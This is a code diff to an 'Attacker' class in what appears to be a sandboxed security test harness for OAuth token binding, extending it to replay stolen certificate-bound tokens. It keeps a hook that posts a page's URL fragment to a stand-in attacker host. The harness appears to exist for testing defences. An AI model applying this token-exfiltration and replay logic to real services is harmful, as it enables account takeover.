@@ -5,16 +5,16 @@ What she may use is decided elsewhere: by what the trace shows that she has lear
 
 from __future__ import annotations
 
-from dataclasses import dataclass, field
-from urllib.parse import urldefrag
+from dataclasses import dataclass, field, replace
 
 from sandbox.cast import EVIL
+from sandbox.certificates import bound_certificate, certificate, certificate_thumbprint
 from sandbox.network import Network
 from sandbox.parties.browser import Action, Browser, Fetch
 from sandbox.parties.pages import Form
 from sandbox.proofs import prove
 from sandbox.tokens import Key, NotAJwt, decode, key_for
-from sandbox.wire import Pairs, Request, Response, json_request
+from sandbox.wire import Pairs, Request, Response, json_request, split
 
 
 @dataclass
@@ -25,9 +25,20 @@ class Attacker:
     net: Network
     keys: dict[str, Key] = field(default_factory=dict)
     served: dict[str, Response] = field(default_factory=dict)
+    certificates: dict[str, str] = field(default_factory=dict)
+    taken: dict[str, tuple[Key | None, str]] = field(default_factory=dict)  # tokens with the key and certificate they were kept with
 
     def __post_init__(self) -> None:
         self.keep(key_for(self.net.entropy.seed, self.name))
+
+    def keep_certificate(self, text: str) -> None:
+        """A certificate together with its key, so that she can connect with it."""
+        self.certificates[certificate_thumbprint(text)] = text
+
+    def certificate(self, bound: str | None = None) -> str:
+        """The certificate to connect with: the one that a token is bound to, else the last one taken, else her own."""
+        own = certificate(self.net.entropy.seed, self.name)
+        return self.certificates.get(bound, own) if bound else next(reversed(self.certificates.values()), own)
 
     def keep(self, key: Key) -> None:
         self.keys[key.thumbprint] = key
@@ -40,7 +51,7 @@ class Attacker:
     def load(self, browser: Browser, url: str) -> Action | None:
         """A page of hers reports what its server cannot see: the fragment of its own address."""
         html = browser.page is not None and (browser.page.header("content-type") or "").startswith("text/html")
-        return Fetch(json_request("POST", f"{EVIL}/collect", {"address": url}), "reported") if html and urldefrag(url).fragment else None
+        return Fetch(json_request("POST", f"{EVIL}/collect", {"address": url}), "reported") if html and split(url).fragment else None
 
     def submit(self, browser: Browser, form: Form, fields: Pairs) -> Action | None:
         return None
@@ -53,12 +64,21 @@ class Attacker:
 
     def present(self, request: Request, token: str, scheme: str = "") -> Request:
         """The request with a token, the way the token wants it: bound to a key means DPoP, with the best key that she has."""
-        key = self._key_of(token)
+        bound, (key, certificate) = self._bound_certificate(token), self.taken.get(token, (None, ""))
+        if bound or certificate:
+            request = replace(request, certificate=certificate or self.certificate(bound))
+        key = key or self._key_of(token)
         if scheme == "bearer" or (key is None and scheme != "dpop"):
             return request.with_header("Authorization", f"Bearer {token}")
         key = key or next(iter(self.keys.values()))
         proof = prove(key, request.method, request.url, self.net.clock.now(), self.net.entropy.token("mallory dpop", 9), token)
         return request.with_header("Authorization", f"DPoP {token}").with_header("DPoP", proof)
+
+    def _bound_certificate(self, token: str) -> str | None:
+        try:
+            return bound_certificate(decode(token).claims)
+        except NotAJwt:
+            return None
 
     def _key_of(self, token: str) -> Key | None:
         try:
